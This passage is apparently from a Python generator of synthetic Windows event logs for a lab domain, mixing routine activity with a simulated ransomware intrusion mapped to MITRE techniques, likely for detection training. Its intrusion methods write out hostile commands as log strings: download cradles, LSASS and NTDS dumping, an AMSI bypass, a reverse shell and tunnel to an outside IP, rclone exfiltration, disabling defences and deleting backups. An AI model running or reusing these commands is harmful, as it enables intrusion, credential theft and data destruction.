                           self.choice(["-", self.addresses["SQL01"]]), "-", "Negotiate")
            else:
                self.event(at, "Sec", 4634, self.choice(self.workstations + SERVERS), [("TargetUserSid", self.sids[user]),
                    ("TargetUserName", user), ("TargetDomainName", self.netbios), ("TargetLogonId", self.logon_id()),
                    ("LogonType", "3")])
        for _ in range(self.times(36)):
            at = self.daily()
            computer = self.choice(self.workstations)
            self.failed_logon(at, self.weighted([(self.owners[computer], 7), (self.choice(self.administrators), 1),
                (self.owners[computer].upper(), 1), (self.owners[computer][:-1], 1)]), self.choice([computer, "FS02", "DC01"]),
                              self.choice([2, 3, 7]), self.addresses[computer], computer,
                              *self.weighted([(("0xc000006d", "0xc000006a"), 6), (("0xc000006d", "0xc0000064"), 1),
                                              (("0xc0000234", "0x0"), 0.7), (("0xc000006e", "0xc0000071"), 0.6)]))
        for _ in range(self.times(110)):
            at = self.daily()
            computer = self.choice(self.workstations)
            self.service_ticket(at, self.weighted([(self.owners[computer], 5), (computer + "$", 4)]),
                                self.weighted([("DC01$", 4), ("FS02$", 4), ("SQL01$", 2), ("krbtgt", 2), ("svc_sql", 0.6),
                                               (computer + "$", 3), ("svc_web", 0.4)]), self.addresses[computer],
                                self.weighted({"0x12": 20, "0x11": 0.3, "0x17": 0.7}),
                                self.weighted({"0x0": 20, "0x1b": 0.5, "0x20": 0.5}))
        for _ in range(self.times(60)):
            at = self.daily()
            computer = self.choice(self.workstations)
            self.first_ticket(at, self.weighted([(self.owners[computer], 4), (computer + "$", 4), (self.choice(SERVICE_ACCOUNTS), 1),
                (self.choice(self.administrators), 1)]), self.addresses[computer],
                              status=self.weighted({"0x0": 20, "0x18": 2, "0x6": 0.5, "0x12": 0.4}))

    def daily_programs(self) -> None:
        """Programs of people and of the system."""
        for _ in range(self.times(420)):
            self.daily_program(self.daily())

    def daily_scripts(self) -> None:
        """Scripts, connections, names, files, registry, shares."""
        for _ in range(self.times(110)):
            administrator = self.choice(self.administrators)
            pick = self.choice(DAILY_SCRIPTS)
            self.script(self.daily(), self.choice(SERVERS + self.workstations[:3]), administrator,
                        pick.replace("%s", self.choice(self.users)),
                        self.choice(["", "", f"C:\\Scripts\\{self.choice(['Check-Disk', 'Sync-Users'])}.ps1"]))
        for _ in range(self.times(120)):
            at = self.daily()
            computer = self.choice(self.workstations)
            user = self.owners[computer]
            process = self.choice([(r"C:\Program Files\Google\Chrome\Application\chrome.exe", user, 443),
                                   (f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", user, 443),
                                   (SVCHOST, "SYSTEM", 443), (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", user,
                443), (SYSTEM32 + "lsass.exe", "SYSTEM", 88), (POWERSHELL, "SYSTEM", 443), (r"C:\Windows\CCM\CcmExec.exe", "SYSTEM",
                8530), ("System", "SYSTEM", 445)])
            self.connection(at, computer, process[1], process[0], self.addresses["DC01"] if process[2] == 88
                            else self.addresses["FS02"] if process[2] == 445 else self.addresses["SCCM01"] if process[2] == 8530
                            else self.address(), process[2])
        for _ in range(self.times(80)):
            at = self.daily()
            computer = self.choice(self.workstations)
            user = self.owners[computer]
            self.name_asked(at, computer, user, self.choice([r"C:\Program Files\Google\Chrome\Application\chrome.exe", SVCHOST,
                f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"]),
                            self.choice(["www.google.com", "outlook.office365.com", "wpad", "DC01." + self.fqdn,
                                         "config.edge.skype.com", f"d{self.token(13).lower()}.cloudfront.net", "ocsp.digicert.com",
                                         "github.com"]),
                            self.choice([f"::ffff:{self.address()};", f"type:  5 e1.akamaiedge.net;::ffff:{self.address()};", "-"]),
                            self.weighted({"0": 9, "9003": 1}))
        for _ in range(self.times(70)):
            at = self.daily()
            computer = self.choice(self.workstations + SERVERS)
            self.access(at, computer,
                        *self.choice([(r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2307.6-0\MsMpEng.exe",
                                       SYSTEM32 + "lsass.exe", "0x1000",
                                       r"C:\Windows\SYSTEM32\ntdll.dll+9d2e4|C:\Windows\System32\KERNELBASE.dll+2bcbe"),
                                      (SYSTEM32 + r"wbem\wmiprvse.exe", SYSTEM32 + "lsass.exe", "0x1410",
                                       r"C:\Windows\SYSTEM32\ntdll.dll+9fc24|C:\Windows\System32\KERNELBASE.dll+20d0e|C:\Windows\system32\wbem\cimwin32.dll+8ab5"),
                                      (SYSTEM32 + "svchost.exe", SYSTEM32 + "lsass.exe", "0x1000",
                                       r"C:\Windows\SYSTEM32\ntdll.dll+9d2e4|c:\windows\system32\lsm.dll+10e93"),
                                      (SYSTEM32 + "csrss.exe", SYSTEM32 + "lsass.exe", "0x1fffff",
                                       r"C:\Windows\SYSTEM32\ntdll.dll+a0044|C:\Windows\system32\basesrv.DLL+2f7a"),
                                      (r"C:\Program Files\SplunkUniversalForwarder\bin\splunk-winevtlog.exe", POWERSHELL, "0x1000",
                                       r"C:\Windows\SYSTEM32\ntdll.dll+9d2e4")]))
        for _ in range(self.times(80)):
            at = self.daily()
            computer = self.choice(self.workstations)
            user = self.owners[computer]
            self.file_made(at, computer, self.choice([user, "SYSTEM"]),
                           *self.choice([(r"C:\Program Files\Google\Chrome\Application\chrome.exe",
                                          r"C:\Users\{}\Downloads\{}".format(user,
                self.choice(["invoice.pdf", "ZoomInstaller.exe", "report.zip", f"Unconfirmed {self.digits(6)}.crdownload"]))),
                                         (EXPLORER,
                                          f"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\{self.choice(['offer', 'plan'])}.lnk"),
                                         (POWERSHELL,
                                          f"C:\\Windows\\Temp\\__PSScriptPolicyTest_{self.token(8).lower()}.{self.token(3).lower()}.ps1"),
                                         (r"C:\Windows\CCM\CcmExec.exe", f"C:\\Windows\\CCM\\SystemTemp\\{self.uuid()}.ps1"),
                                         (SYSTEM32 + "msiexec.exe", f"C:\\Windows\\Installer\\{self.hex(6)}.msi"),
                                         (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
                                          f"C:\\Users\\{user}\\Documents\\~$ntract.docx"),
                                         (SVCHOST, r"C:\Windows\System32\Tasks\Microsoft\Office\OfficeTelemetryAgentLogOn2016")]))
        for _ in range(self.times(60)):
            at = self.daily()
            computer = self.choice(self.workstations + SERVERS)
            self.registry_value(at, computer, "SYSTEM",
                                *self.choice([(SVCHOST, r"HKLM\System\CurrentControlSet\Services\W32Time\Config\LastKnownGoodTime",
                                               f"QWORD (0x01d9d5a3-0x{self.hex(8)})"),
                                              (SYSTEM32 + "services.exe",
                                               r"HKLM\System\CurrentControlSet\Services\{}\Start".format(self.choice(["BITS",
                "wuauserv", f"MpKsl{self.hex(8)}"])), f"DWORD (0x0000000{self.rng.randint(2, 4)})"),
                                              (r"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe",
                                               r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce\msedge_cleanup",
                                               r'"C:\Program Files (x86)\Microsoft\EdgeUpdate\clean.exe"'),
                                              (f"C:\\Users\\{self.choice(self.users)}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
                                               f"HKU\\{self.sids[self.users[3]]}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
                                               r'"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background'),
                                              (r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2307.6-0\MsMpEng.exe",
                                               r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated",
                                               "Binary Data")]))
        for _ in range(self.times(60)):
            at = self.daily()
            computer = self.choice(self.workstations)
            self.share_access(at, self.choice(["FS02", "DC01"]),
                              self.choice([self.owners[computer], computer + "$", self.administrators[0], "svc_backup"]),
                              self.addresses[computer],
                              *self.choice([("IPC$", "srvsvc"), ("IPC$", "lsarpc"),
                                            ("SYSVOL", self.fqdn + r"\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\gpt.ini"),
                                            ("dept", r"Finance\budget.xlsx"), ("dept", "Offer 2023-44.docx"), ("IPC$", "spoolss"),
                                            ("IPC$", "netlogon"), ("ADMIN$", r"CCM\Logs\ccmexec.log"), ("it$", r"tools\putty.exe")]))
        for _ in range(self.times(34)):
            self.directory_access(self.daily(), self.choice(["DC01$", "DC02$"]) if self.rng.random() < 0.5
                                  else self.choice(self.administrators),
                                  self.choice(["1131f6aa-9c07-11d1-f79f-00c04fc2dcd2"]) if self.rng.random() < 0.3
                                  else self.choice(["bf967a0a-0de6-11d0-a285-00aa003049e2", "771727b1-31b8-4cdf-ae62-4fe39fadf89e",
                "5805bc62-bdc9-4428-a5e2-856a0f4c185e"]), "0x100" if self.rng.random() < 0.4 else self.choice(["0x10", "0x20"]))
        self.events[:] = [row for row in self.events if not (row[2] == 4662 and "1131f6aa" in str(row[4])
            and ("DC0" not in str(row[4][1])))]

    def daily_administration(self) -> None:
        """Accounts, services and tasks are looked after."""
        for _ in range(self.times(60)):
            at = self.daily()
            administrator = self.choice(self.administrators)
            user = self.choice(self.users)
            pick = self.rng.randrange(8)
            controller = "DC01"
            if pick == 0:
                self.event(at, "Sec", 4724, controller, [("TargetUserName", user), ("TargetDomainName", self.netbios),
                    ("TargetSid", self.sids[user])] + self.subject(administrator, controller))
            elif pick == 1:
                self.event(at, "Sec", 4740, controller, [("TargetUserName", user), ("TargetDomainName", self.choice(self.workstations)),
                    ("TargetSid", self.sids[user])] + self.subject("SYSTEM", controller))
            elif pick == 2:
                self.event(at, "Sec", 4728, controller, [("MemberName", f"CN={user},OU=Staff,DC=contoso,DC=lab"),
                    ("MemberSid", self.sids[user]), ("TargetUserName", self.choice(["VPN-Users", "Finance", "SG-Printers"])),
                    ("TargetDomainName", self.netbios),
                    ("TargetSid", self.authority + f"-1{self.digits(3)}")] + self.subject(administrator,
                    controller) + [("PrivilegeList", "-")])
            elif pick == 3:
                self.event(at, "Sec", 4738, controller, [("Dummy", "-"), ("TargetUserName", user), ("TargetDomainName", self.netbios),
                    ("TargetSid", self.sids[user])] + self.subject(administrator, controller) + [("PrivilegeList", "-"),
                    ("SamAccountName", "-"), ("UserAccountControl", "-"), ("PasswordLastSet", self.choice(["-", "%%1794"]))])
            elif pick == 4:
                self.service(at, self.choice(self.workstations + SERVERS), "SYSTEM",
                             *self.choice([(f"MpKsl{self.hex(8)}",
                                            f"C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{{{self.uuid().upper()}}}\\MpKslDrv.sys"),
                                           ("Google Chrome Elevation Service",
                                            r'"C:\Program Files\Google\Chrome\Application\116.0.5845.97\elevation_service.exe"'),
                                           ("PSEXESVC", r"%SystemRoot%\PSEXESVC.exe"),
                                           ("SQLBackupAgent", r"C:\Program Files\Acme\agent.exe -svc")]))
            elif pick == 5:
                self.task_event(at, self.choice(self.workstations + SERVERS), self.choice(["SYSTEM", administrator]),
                                *self.choice([(r"\Microsoft\Office\Office Automatic Updates 2.0",
                                               r"C:\Program Files\Common Files\Microsoft Shared\ClickToRun\OfficeC2RClient.exe",
                                               "/frequentupdate SCHEDULEDTASK displaylevel=False"),
                                              (f"\\GoogleUpdateTaskMachineUA{{{self.uuid()}}}",
                                               r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", "/ua"),
                                              (r"\Rotate IIS logs", "powershell.exe", r"-File C:\Scripts\Rotate-IISLogs.ps1"),
                                              (r"\OneDrive Standalone Update Task-" + self.sids[user],
                                               r"%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe", "")]))
            elif pick == 6:
                self.event(at, "Sec", 4672, self.choice(SERVERS), self.subject(self.choice([administrator, "SYSTEM", "svc_backup"]),
                    "FS02") + [("PrivilegeList", "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\t"
                                "SeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\t"
                                "SeLoadDriverPrivilege\r\n\t\t\tSeImpersonatePrivilege")])
            else:
                self.event(at, "System", 7036, self.choice(self.workstations + SERVERS),
                           [("param1", self.choice(["Windows Update", "BITS", "Software Protection", "Windows Modules Installer"])),
                            ("param2", self.choice(["running", "stopped"]))])
        for _ in range(self.times(9)):
            at = self.daily()
            administrator = self.choice(self.administrators)
            controller = "DC01"
            new_user = self.choice(FIRST_NAMES)[0] + self.choice(LAST_NAMES)
            new_sid = self.authority + f"-{self.rng.randint(1900, 1990)}"
            self.event(at, "Sec", 4720, controller, [("TargetUserName", new_user), ("TargetDomainName", self.netbios),
                ("TargetSid", new_sid)] + self.subject(administrator, controller) + [("PrivilegeList", "-"),
                ("SamAccountName", new_user), ("DisplayName", "%%1793"), ("UserPrincipalName", new_user + "@" + self.fqdn),
                ("UserAccountControl", "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084")])
            self.event(at + 9, "Sec", 4742, controller,
                       [("ComputerAccountChange", "-"), ("TargetUserName", self.choice(self.workstations) + "$"),
                        ("TargetDomainName", self.netbios),
                        ("TargetSid", self.authority + f"-1{self.digits(3)}")] + self.subject(self.choice(["SYSTEM", administrator]),
                controller) + [("PasswordLastSet", iso(at))])
            self.event(at + 600, "Sec", 5136, controller, self.subject(administrator, controller) + [("DSName", self.fqdn),
                ("DSType", "%%14676"), ("ObjectDN", f"CN={{{self.uuid().upper()}}},CN=Policies,CN=System,DC=contoso,DC=lab"),
                ("ObjectClass", "groupPolicyContainer"),
                ("AttributeLDAPDisplayName", self.choice(["versionNumber", "gPCMachineExtensionNames", "displayName"])),
                ("AttributeValue", self.choice(["65541",
                                                "[{35378EAC-683F-11D2-A89A-00C04FBBCFA2}{D02B1F72-3407-48AE-BA88-E8213C6761F1}]",
                                                "Printers 2F"])), ("OperationType", self.choice(["%%14674", "%%14675"]))])

    def victims(self) -> None:
        """Who is struck first."""
        self.victim = self.workstations[4]
        self.victim_user = self.owners[self.victim]

    def foothold(self) -> None:
        """A document starts a script; a look around; passwords out of memory."""
        self.commands(0, 10, [(f"cmd.exe /c C:\\Users\\{self.victim_user}\\AppData\\Local\\Temp\\inv.bat", "T1204.002"),
                              ("powershell.exe -nop -w hidden -enc "
                               + encryption(f"IEX (New-Object Net.WebClient).DownloadString('{STAGE}a')"), "T1059.001"),
                              (f"mshta.exe {STAGE}x.hta", "T1218.005"),
                              (f"rundll32.exe C:\\Users\\{self.victim_user}\\AppData\\Roaming\\msdl.dat,DllRegisterServer",
                               "T1218.011"), (f"regsvr32.exe /s /n /u /i:{STAGE}f.sct scrobj.dll", "T1218.010"),
                              (f"certutil.exe -urlcache -split -f {STAGE}beacon.exe C:\\Users\\Public\\svch.exe", "T1105"),
                              (f"bitsadmin.exe /transfer j /download /priority high {STAGE}u.zip C:\\Users\\Public\\u.zip", "T1197"),
                              (f"curl.exe -s -o C:\\Users\\Public\\p.ps1 {STAGE}p.ps1", "T1105")], "initial", parent=WORD)
        looks = ["whoami /all", "net user /domain", 'net group "Domain Admins" /domain', "nltest /domain_trusts /all_trusts",
                 "systeminfo", "ipconfig /all", "net view /all /domain", "arp -a", "tasklist /svc", "netstat -ano", "qwinsta",
                 "wmic product get name", "dsquery computer", f"setspn.exe -T {self.fqdn} -Q */*", "cmdkey /list",
                 "net localgroup administrators", "quser", r"reg query HKLM\SYSTEM\CurrentControlSet\Services\NTDS\Parameters",
                 "findstr.exe /si password *.xml *.ini *.txt", f"nslookup -type=SRV _ldap._tcp.dc._msdcs.{self.fqdn}",
                 "fsutil.exe fsinfo drives", "wmic /node:DC01 process list brief"]
        self.commands(0, 11, self.rng.sample(looks, 16), "discovery", technique="T1087",
                      parent=self.choice([CMD, SYSTEM32 + "rundll32.exe"]))
        self.commands(1, 9, self.rng.sample(looks, 14), "discovery", technique="T1082", parent=POWERSHELL, host="SQL01", user="svc_sql",
                      level="High")
        self.commands(1, 10, [(r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 672 C:\Windows\Temp\l.bin full", "T1003.001"),
                              (r"C:\Users\Public\procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\x.dmp", "T1003.001"),
                              (r"reg.exe save HKLM\SAM C:\Windows\Temp\s.hiv", "T1003.002"),
                              (r"reg.exe save HKLM\SYSTEM C:\Windows\Temp\y.hiv", "T1003.002"),
                              (r'ntdsutil.exe "ac i ntds" "ifm" "create full c:\temp\i" q q', "T1003.003"),
                              ("vssadmin.exe create shadow /for=C:", "T1003.003"),
                              (r"C:\Users\Public\m.exe privilege::debug sekurlsa::logonpasswords exit", "T1003.001"),
                              (r"wmic.exe shadowcopy call create Volume='C:\'", "T1003.003"),
                              (r"esentutl.exe /y /vss C:\Windows\NTDS\ntds.dit /d C:\temp\n.dit", "T1003.003")], "creds", host="SQL01",
                      user=self.administrators[0], level="High")
        for host_name, image_of, rights_of in [("SQL01", SYSTEM32 + "rundll32.exe", "0x1fffff"), ("SQL01", r"C:\Users\Public\m.exe",
            "0x1010"), (self.victim, r"C:\Users\Public\svch.exe", "0x1438"), ("DC01", SYSTEM32 + "taskmgr.exe", "0x1fffff"),
                                               ("SQL01", r"C:\Users\Public\procdump64.exe", "0x1fffff"),
                                               (self.victim, POWERSHELL, "0x1010"), ("FS02", SYSTEM32 + "werfault.exe", "0x1fffff"),
                                               ("SQL01", r"C:\Windows\Temp\xqv.exe", "0x143a")]:
            attack(self.access, self.day_hour(1, 10) + self.rng.random() * 7200, host_name, image_of, SYSTEM32 + "lsass.exe", rights_of,
                   self.choice(["C:\\Windows\\SYSTEM32\\ntdll.dll+9d2e4|C:\\Windows\\System32\\KERNELBASE.dll+2bcbe|UNKNOWN(00000"
                                f"{self.hex_upper(11)})",
                                r"C:\Windows\SYSTEM32\ntdll.dll+9fc24|C:\Windows\System32\KERNELBASE.dll+20d0e|C:\Windows\System32\dbgcore.DLL+6ed5"]),
                   self.netbios + "\\" + self.administrators[0], group="creds", technique="T1003.001")

    def tickets_and_guesses(self) -> None:
        """Roasted tickets, passwords guessed, the directory replicated."""
        for number in range(14):
            attack(self.service_ticket, self.day_hour(0, 13) + number * self.rng.uniform(0.1, 30), self.victim_user,
                   self.choice(SERVICE_ACCOUNTS + ["svc_sql"]), self.addresses[self.victim], self.weighted({"0x17": 5, "0x12": 1}),
                   group="kerberoast", technique="T1558.003")
        for number in range(10):
            attack(self.first_ticket, self.day_hour(0, 13.5) + number * self.rng.uniform(0.1, 9), self.choice(self.users),
                   self.addresses[self.victim], "0x17", "0", self.weighted({"0x0": 2, "0x6": 3}), group="asrep", technique="T1558.004")
        for number in range(34):
            user = self.choice(self.users + ["administrator", "backup", "admin", "test"])
            attack(self.failed_logon, self.day_hour(0, 20) + number * self.rng.uniform(1, 60), user, self.choice(["DC01", "FS02"]), 3,
                   self.addresses[self.victim], self.choice([self.victim, "KALI", "-"]),
                   *self.weighted([(("0xc000006d", "0xc000006a"), 5), (("0xc000006d", "0xc0000064"), 2)]), group="spray",
                   technique="T1110.003") if number % 2 else attack(self.first_ticket,
                self.day_hour(0, 20) + number * self.rng.uniform(1, 60), user, self.addresses[self.victim],
                status=self.weighted({"0x18": 4, "0x6": 1}), group="spray", technique="T1110.003")
        for path_of in ["1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2",
                        "89e95b76-444d-4c62-991a-0facbeda640c"]:
            for number in range(3):
                attack(self.directory_access, self.day_hour(1, 14) + number * 0.2 + self.rng.random(), self.administrators[0] if number
                       else self.victim_user, path_of, group="dcsync", technique="T1003.006")

    def movement(self) -> None:
        """Movement by logons, services, shares and remote calls."""
        for number in range(16):
            host_name = self.choice(SERVERS)
            attack(self.logon, self.day_hour(1, 11) + number * self.rng.uniform(100, 5000),
                   self.choice([self.administrators[0], "Administrator", "svc_backup", self.victim_user]), host_name,
                   self.choice([3, 3, 3, 10, 9]), self.addresses[self.victim], self.choice([self.victim, "-", "KALI"]),
                   *self.choice([("NTLM", "NTLM"), ("NTLM", "NTLM"), ("Kerberos", "Kerberos")]), group="lateral", technique="T1550.002")
        for name_of, path_of in [("PSEXESVC", r"%SystemRoot%\PSEXESVC.exe"), ("hXwBn", r"%systemroot%\hXwBnQtE.exe"),
                                 ("BTOBTO",
                                  r"%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat"),
                                 ("WinUpdSvc", r"C:\Users\Public\svch.exe"), ("a3f91c2", r"\\127.0.0.1\ADMIN$\a3f91c2.exe"),
                                 ("MsMpSvcHelper",
                                  "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAA="),
                                 ("RemComSvc", r"C:\Windows\RemComSvc.exe"), ("aswArPot", r"C:\Windows\Temp\aswArPot.sys")]:
            attack(self.service, self.day_hour(1, 12) + self.rng.random() * 40000, self.choice(SERVERS), self.administrators[0],
                   name_of, path_of, group="lateral", technique="T1569.002")
        for share, file_name in [("ADMIN$", "PSEXESVC.exe"), ("IPC$", "svcctl"), ("IPC$", "atsvc"), ("C$", "__output"),
                                 ("IPC$", "samr"), ("IPC$", "drsuapi"), ("ADMIN$", r"Temp\xqv.exe"), ("IPC$", "winreg"),
                                 ("C$", r"Windows\Temp\l.bin"), ("IPC$", "efsrpc"),
                                 ("SYSVOL", self.fqdn + r"\Policies\{6AC1786C}\Machine\Preferences\Groups\Groups.xml"),
                                 ("IPC$", "lsarpc"), ("dept", r"Finance\passwords.xlsx"), ("C$", r"temp\i\Active Directory\ntds.dit")]:
            attack(self.share_access, self.day_hour(1, 12) + self.rng.random() * 40000, self.choice(SERVERS[:3]),
                   self.choice([self.victim_user, self.administrators[0]]), self.addresses[self.victim], share, file_name,
                   self.choice(["0x120089", "0x12019f", "0x2"]), group="lateral", technique="T1021.002")
        for parent, host in [(SYSTEM32 + r"wbem\WmiPrvSE.exe", "FS02"), (SYSTEM32 + "wsmprovhost.exe", "WEB01"),
                             (SYSTEM32 + "services.exe", "SQL01"), (r"C:\Windows\PSEXESVC.exe", "DC01"),
                             (SYSTEM32 + "mmc.exe", "FS02")]:
            self.commands(1, 12 + self.rng.random() * 5, self.rng.sample([r"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__16923 2>&1",
                r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__16923 2>&1",
                f"powershell.exe -ep bypass -c \"& {{iwr {STAGE}r -o C:\\Windows\\Temp\\xqv.exe}}\"",
                 "net user svc_help P@ss-2023! /add /domain", 'net group "Domain Admins" svc_help /add /domain', "cmd.exe /c tasklist",
                 "hostname", r"cmd.exe /C dir C:\Users /s /b", r"rundll32.exe C:\Windows\Temp\d.dll,Start"], 5), "lateral", host=host,
                          user=self.choice([self.administrators[0], "SYSTEM"]), parent=parent, level="High", technique="T1047",
                          step=300)

    def persistence_and_damage(self) -> None:
        """What stays, and what is done before files are encrypted."""
        self.commands(1, 16, [(
                               r'schtasks.exe /create /tn "\Microsoft\Windows\UPnP\Sync" /tr "C:\Users\Public\svch.exe" /sc onlogon /ru SYSTEM /f',
                               "T1053.005"), (r"sc.exe create WinUpdSvc binPath= C:\Users\Public\svch.exe start= auto", "T1543.003"),
                              (r"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d C:\Users\Public\svch.exe /f",
                               "T1547.001"), ("net.exe localgroup administrators svc_help /add", "T1098"),
                              (r'wmic.exe /namespace:\\root\subscription PATH __EventFilter CREATE Name="upd", EventNameSpace="root\cimv2"',
                               "T1546.003"),
                              (r'reg.exe add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /d C:\windows\system32\cmd.exe /f',
                               "T1546.008"), ("netsh.exe advfirewall set allprofiles state off", "T1562.004"),
                              ("netsh.exe interface portproxy add v4tov4 listenport=8443 connectaddress=10.0.10.9 connectport=3389",
                               "T1090"), ("powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true", "T1562.001"),
                              (r"powershell.exe Add-MpPreference -ExclusionPath C:\Users\Public", "T1562.001"),
                              ("wevtutil.exe cl Security", "T1070.001"),
                              ('auditpol.exe /set /category:"Detailed Tracking" /success:disable', "T1562.002"),
                              ("sc.exe stop WinDefend", "T1562.001"),
                              (r"reg.exe add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f",
                               "T1112"), (r"attrib.exe +h +s C:\Users\Public\svch.exe", "T1564.001"),
                              ("fltMC.exe unload SysmonDrv", "T1562.001"),
                              (r'reg.exe add "HKLM\System\CurrentControlSet\Control\Lsa" /v DisableRestrictedAdmin /t REG_DWORD /d 0 /f',
                               "T1112")], "persist_evade", host=self.victim, user=self.administrators[0], level="High")
        self.commands(2, 2, ["vssadmin.exe delete shadows /all /quiet", "wbadmin.exe delete catalog -quiet",
                             "bcdedit.exe /set {default} recoveryenabled no", "wmic.exe shadowcopy delete",
                             r"C:\Windows\Temp\lk.exe -p D:\dept -k 8fa", "taskkill.exe /IM sqlservr.exe /F",
                             "net.exe stop MSSQLSERVER /y", r"icacls.exe D:\dept /grant Everyone:F /T /C /Q", "cipher.exe /w:C:"],
                      "impact", host="FS02", user="SYSTEM", level="System", technique="T1490", step=20)
        self.commands(2, 0.5, [r"C:\Users\Public\rclone.exe copy \\FS02\dept mega:x --transfers 12 -q",
                               r"C:\Users\Public\7z.exe a -mx1 -pQ9 C:\Users\Public\d.7z D:\dept\Finance",
                               r"C:\Users\Public\AdFind.exe -f (objectcategory=person) -csv",
                               r"C:\Users\Public\SharpHound.exe -c All --zipfilename n.zip",
                               r"C:\Users\Public\plink.exe -R 3389:127.0.0.1:3389 root@91.215.85.16 -batch",
                               r"powershell.exe Compress-Archive D:\dept\HR C:\Windows\Temp\h.zip",
                               r"tar.exe -cf C:\Windows\Temp\a.tar D:\dept\Legal"], "collect_exfil", host="FS02",
                      user=self.administrators[0], level="High", technique="T1560")

    def scripts_and_connections(self) -> None:
        """Scripts, connections, names, files and registry of an intruder."""
        for pick, technique in [(f"IEX (New-Object Net.WebClient).DownloadString('{STAGE}PowerView.ps1')", "T1059.001"),
                                ("Get-DomainUser -SPN | Get-DomainSPNTicket -OutputFormat Hashcat", "T1558.003"),
                                ("$s=New-Object System.Net.Sockets.TCPClient('91.215.85.16',4443);$st=$s.GetStream();[byte[]]$b=0..65535|%{0}",
                                 "T1059.001"),
                                ("[Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'siUt'+'ils').GetField('am'+'siInitF'+'ailed','NonPublic,Static').SetValue($null,$true)",
                                 "T1562.001"), ("Invoke-Mimikatz -Command '\"lsadump::dcsync /user:krbtgt\"'", "T1003.006"),
                                ("function Invoke-Kerberoast { [CmdletBinding()] Param( [Parameter(Position = 0)] $Identity, $Domain )",
                                 "T1558.003"),
                                ("$d=[Convert]::FromBase64String($x);$g=New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,$d)),[IO.Compression.CompressionMode]::Decompress)",
                                 "T1027"), ("Get-ADComputer -Filter * -Properties ms-Mcs-AdmPwd | Select Name,ms-Mcs-AdmPwd", "T1555"),
                                ("Get-NetLocalGroup -ComputerName FS02 -Recurse", "T1069"),
                                (r"Invoke-ShareFinder -CheckShareAccess | Out-File C:\Users\Public\sh.txt", "T1135"),
                                (r"Get-ChildItem -Path C:\Users -Include *.kdbx,*.rdp,*.ppk,unattend.xml -Recurse -ErrorAction SilentlyContinue",
                                 "T1083"),
                                (r'Register-WmiEvent -Query "select * from Win32_LogonSession within 5" -Action { & C:\Users\Public\svch.exe }',
                                 "T1546.003"), ("Invoke-Command -ComputerName DC01 -ScriptBlock { whoami; Get-Process lsass }",
                                                "T1021.006"),
                                ("Add-Type -TypeDefinition $c; [W]::VirtualAlloc([IntPtr]::Zero,[uint32]$sc.Length,0x3000,0x40)",
                                 "T1055"), ("Remove-Item (Get-PSReadlineOption).HistorySavePath", "T1070.003"),
                                ("Get-GPPPassword", "T1552.006"),
                                ("Set-ADUser -Identity svc_help -Replace @{msDS-AllowedToDelegateTo='cifs/DC01'}", "T1098"),
                                (r"Get-Clipboard; Add-Type -AssemblyName System.Windows.Forms; $bmp.Save('C:\Users\Public\s.png')",
                                 "T1113")]:
            attack(self.script, self.day_hour(self.rng.choice([0, 1, 1]), 11 + self.rng.random() * 9),
                   self.choice([self.victim, "SQL01", "FS02"]), self.victim_user, pick, self.choice(["", "", r"C:\Users\Public\p.ps1"]),
                   group="powershell", technique=technique)
        for number in range(22):
            attack(self.connection, self.day_hour(0, 10.5) + number * self.rng.uniform(1000, 7000),
                   self.choice([self.victim, self.victim, "SQL01"]), self.victim_user,
                   self.choice([POWERSHELL, r"C:\Users\Public\svch.exe", SYSTEM32 + "rundll32.exe", SYSTEM32 + "dllhost.exe", SVCHOST]),
                   CONTROL, self.choice([443, 80, 8443]), group="c2", technique="T1071.001")
        for number in range(12):
            attack(self.name_asked, self.day_hour(0, 10.5) + number * self.rng.uniform(1000, 9000), self.victim, self.victim_user,
                   self.choice([POWERSHELL, r"C:\Users\Public\svch.exe", SYSTEM32 + "rundll32.exe"]),
                   self.choice(["cdn-telemetry-sync.com", f"{self.hex(24)}.upd.cdn-telemetry-sync.com", "api.ipify.org",
                                "transfer.sh"]), self.choice([f"::ffff:{CONTROL};", "-"]), group="c2", technique="T1071.004")
